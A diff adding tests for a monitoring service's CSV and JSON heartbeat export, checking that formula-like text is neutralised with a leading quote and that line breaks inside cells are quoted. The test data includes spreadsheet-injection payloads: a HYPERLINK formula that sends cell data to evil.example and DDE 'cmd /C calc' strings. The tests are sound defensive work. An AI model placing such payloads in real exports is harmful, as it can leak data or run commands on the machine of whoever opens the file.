@@ -291,6 +291,56 @@ async def test_the_export_comes_as_csv_json_or_json_lines_with_the_same_rows(api
     assert answers["csv"][0].startswith("text/csv") and answers["json"][0] == "application/json"
 
 
+FORMULAS = {
+    "message": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "status": "+cmd|' /C calc'!A0",
+    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0", "rid": "-2+3", "output": "\t=1+1", "duration_raw": "\r=1",
+}
+
+
+async def test_the_csv_export_neutralizes_formulas_in_text_from_outside_and_json_keeps_it_exact(api):
+    tenant, hb = await a_heartbeat(api)
+    t = now_ms()
+    await record(api, [a_ping(tenant.project_id, hb, t - 1000, kind="fail", exit_code=3, duration_s=1.5,
+                              **FORMULAS)])  # fmt: skip
+
+    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})
+
+    assert status == 200
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    # OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading ' (shown as text).
+    assert {field: row[field] for field in FORMULAS} == {field: "'" + value for field, value in FORMULAS.items()}
+    assert (row["exit_code"], row["duration"], row["kind"]) == ("3", "1.5", "fail")  # Pingura's own: as is
+    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "jsonl"})
+    [line] = [json.loads(line) for line in text.splitlines()]
+    assert {field: line[field] for field in FORMULAS} == FORMULAS
+
+
+async def test_a_line_break_inside_a_csv_cell_is_quoted_so_no_cell_starts_a_row_of_its_own(api):
+    tenant, hb = await a_heartbeat(api)
+    await record(api, [a_ping(tenant.project_id, hb, now_ms() - 1000, message="ok\r=1+1", status="a\r\nb")])
+
+    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})
+
+    assert status == 200
+    assert '"ok\r=1+1"' in text and '"a\r\nb"' in text  # RFC 4180: a field holding CR or LF is quoted
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert (row["message"], row["status"]) == ("ok\r=1+1", "a\r\nb")
+
+
+async def test_the_csv_export_writes_booleans_as_json_does_and_nothing_for_null(api):
+    tenant, hb = await a_heartbeat(api)
+    t = now_ms()
+    await record(api, [a_ping(tenant.project_id, hb, t - 2000, output="cut", output_truncated=True),
+                       a_ping(tenant.project_id, hb, t - 1000)])  # fmt: skip
+
+    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})
+
+    assert status == 200
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["output_truncated"] for r in rows] == ["true", "false"]
+    assert (rows[1]["message"], rows[1]["exit_code"], rows[1]["measured_duration"]) == ("", "", "")
+
+
 async def test_an_unknown_export_format_is_refused_naming_it(api):
     tenant, hb = await a_heartbeat(api)
 
